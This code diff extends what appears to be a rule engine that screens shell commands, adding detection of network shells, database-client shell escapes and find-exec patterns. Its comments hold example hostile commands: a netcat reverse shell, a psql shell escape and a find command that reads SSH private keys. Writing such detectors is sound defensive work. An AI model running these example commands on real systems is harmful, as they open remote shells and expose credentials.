@@ -150,7 +150,9 @@ def _judge_call(judge: Scope, call: Call) -> list[Verdict | None]:
     via = set(call.via)
     if call.name in PRIVILEGE or via & PRIVILEGE or via & CONTAINER_CLIS:
         verdicts.append(_rules("rules_host").privileged(judge, call))
-    if call.name in SENDERS and call.upstream:
+    if call.name in SENDERS:  # `nc -e /bin/sh host 4444`
+        verdicts.append(_rules("revshell").network_shell(judge, call))
+    if call.name in SENDERS and (call.upstream or any(w.subs for w in call.args)):
         verdicts.append(_rules("rules_host").exfiltration(judge, call))
     if call.name in SECRET_CLIS:
         verdicts.append(_rules("rules_host").secret_store(judge, call))
@@ -162,6 +164,12 @@ def _judge_call(judge: Scope, call: Call) -> list[Verdict | None]:
         verdicts.append(_rules("rules_files").reads(judge, call))
     if call.name in DB_CLIENTS:
         verdicts.append(_rules("rules_infra").sql(judge, call))
+        verdicts.append(_rules("dbshell").escapes(judge, call))  # `psql -c '\! …'`
+    if call.find_selected:  # `find ~/.ssh -name id_rsa -exec cat {} \;`: judged on what `{}` can be
+        for concrete in _rules("findexec").concrete_calls(call):
+            verdicts.extend(_judge_call(judge, concrete))
+            if concrete.command.redirects and not _ELSEWHERE & set(call.via):
+                verdicts.extend(_rules("rules_files").redirects(judge, concrete.command))
     return verdicts
 
 
